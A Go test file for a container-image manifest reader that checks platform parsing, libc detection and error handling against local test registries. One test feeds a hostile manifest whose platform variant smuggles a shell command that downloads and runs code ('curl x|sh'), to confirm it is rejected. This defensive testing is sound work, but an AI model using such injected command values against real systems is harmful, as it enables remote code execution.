package remoteimage_test

import (
	"context"
	"errors"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/fbdock/fbdock/internal/remoteimage"
)

// local is a registry of this process, and what was asked of it.
func local(t *testing.T, handler http.Handler) (host string) {
	t.Helper()
	server := httptest.NewServer(handler)
	t.Cleanup(server.Close)
	return strings.TrimPrefix(server.URL, "http://")
}

func made(t *testing.T, system, architecture, by string) v1.Image {
	t.Helper()
	image, err := random.Image(1000, 2)
	if err != nil {
		t.Fatal(err)
	}
	config, err := image.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config = config.DeepCopy()
	config.OS, config.Architecture = system, architecture
	config.History = append(config.History, v1.History{CreatedBy: by})
	if image, err = mutate.ConfigFile(image, config); err != nil {
		t.Fatal(err)
	}
	return image
}

func push(t *testing.T, reference string, images ...v1.Image) {
	t.Helper()
	ref, err := name.ParseReference(reference)
	if err != nil {
		t.Fatal(err)
	}
	if len(images) == 1 {
		err = remote.Write(ref, images[0])
	} else {
		index := v1.ImageIndex(empty.Index)
		for _, image := range images {
			config, cerr := image.ConfigFile()
			if cerr != nil {
				t.Fatal(cerr)
			}
			index = mutate.AppendManifests(index, mutate.IndexAddendum{
				Add: image, Descriptor: v1.Descriptor{Platform: &v1.Platform{OS: config.OS, Architecture: config.Architecture}},
			})
		}
		err = remote.WriteIndex(ref, index)
	}
	if err != nil {
		t.Fatal(err)
	}
}

func TestRead(t *testing.T) {
	t.Parallel()
	var blobs atomic.Int64
	inner := registry.New(registry.Logger(log.New(io.Discard, "", 0)))
	host := local(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		inner.ServeHTTP(w, r)
		if r.Method == http.MethodGet && strings.Contains(r.URL.Path, "/blobs/") {
			blobs.Add(1)
		}
	}))
	push(t, host+"/alpine:3", made(t, "linux", "amd64", "ADD alpine-minirootfs-3.24.tar.gz /"))
	push(t, host+"/busybox:uclibc", made(t, "linux", "arm64", "COPY busybox"))
	push(t, host+"/freebsd-runtime:15.1", made(t, "freebsd", "amd64", ""))
	push(t, host+"/both:1", made(t, "linux", "amd64", "RUN apt-get install x"), made(t, "freebsd", "arm64", ""), made(t, "windows", "amd64", ""), made(t, "unknown", "unknown", ""))
	blobs.Store(0)
	for reference, want := range map[string][]string{
		"/alpine:3":             {"linux/amd64 musl"},
		"/busybox:uclibc":       {"linux/arm64 uclibc"},
		"/freebsd-runtime:15.1": {"freebsd/amd64 "},
		"/both:1":               {"linux/amd64 glibc", "freebsd/arm64 ", "windows/amd64 "},
	} {
		image, err := remoteimage.Read(t.Context(), host+reference, nil)
		if err != nil {
			t.Errorf("Read(%q): %v, want no error", reference, err)
			continue
		}
		var got []string
		for _, p := range image.Platforms {
			got = append(got, p.String()+" "+p.Libc)
			if p.OS != "windows" && p.Size < 2000 {
				t.Errorf("Read(%q): %s has %d bytes, want 2000 or more", reference, p, p.Size)
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("Read(%q) (-want +got):\n%s", reference, diff)
		}
	}
	if n := blobs.Load(); n != 5 {
		t.Errorf("%d blobs were fetched, want the 5 configurations", n)
	}
}

// TestReadFails: errors say what is wrong, and a server that goes on and on ends nothing but itself.
func TestReadFails(t *testing.T) {
	t.Parallel()
	endless := func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v2/" {
			return
		}
		w.Header().Set("Content-Type", "application/vnd.oci.image.manifest.v1+json")
		for chunk := strings.Repeat("x", 1<<16); ; {
			if _, err := io.WriteString(w, chunk); err != nil {
				return
			}
		}
	}
	manifest := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.Contains(r.URL.Path, "/manifests/") {
				w.Header().Set("Content-Type", "application/vnd.oci.image.index.v1+json")
				_, _ = io.WriteString(w, text)
			}
		}
	}
	hostile := `{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":1,"digest":"sha256:` + strings.Repeat("0", 64) +
		`","platform":{"os":"linux","architecture":"arm64","variant":"v8; curl x|sh #"}},{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":1,"digest":"sha256:` +
		strings.Repeat("1", 64) + `","platform":{"os":"linux","architecture":"amd64"}}]}`
	image, err := remoteimage.Read(t.Context(), local(t, manifest(hostile))+"/img:1", nil)
	if err != nil || len(image.Platforms) != 1 || image.Platforms[0].String() != "linux/amd64" {
		t.Errorf("Read() of a platform that is a command and of one without an image = %+v, %v, want only linux/amd64", image, err)
	}
	around := func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, r.URL.Path+"x", http.StatusFound) }
	login := func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
		w.WriteHeader(http.StatusUnauthorized)
	}
	for _, tt := range []struct {
		what, reference string
		want            error
	}{
		{"no name", "Not A Name", remoteimage.ErrName},
		{"not found", local(t, registry.New(registry.Logger(log.New(io.Discard, "", 0)))) + "/none:1", remoteimage.ErrNotFound},
		{"login", local(t, http.HandlerFunc(login)) + "/img:1", remoteimage.ErrUnauthorized},
		{"around", local(t, http.HandlerFunc(around)) + "/img:1", nil},
		{"nobody", "127.0.0.1:1/img:1", nil},
	} {
		if _, err := remoteimage.Read(t.Context(), tt.reference, nil); err == nil || tt.want != nil && !errors.Is(err, tt.want) {
			t.Errorf("Read() of %s: error = %v, want %v", tt.what, err, tt.want)
		}
	}
	if _, err := remoteimage.Read(t.Context(), local(t, http.HandlerFunc(endless))+"/img:1", nil); err == nil || !strings.Contains(err.Error(), "more than a manifest has") {
		t.Errorf("Read() of an endless answer: error = %v, want one that says it is more than a manifest has", err)
	}
	done, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := remoteimage.Read(done, "127.0.0.1:1/img:1", nil); !errors.Is(err, context.Canceled) {
		t.Errorf("Read() with an ended context: error = %v, want Canceled", err)
	}
}
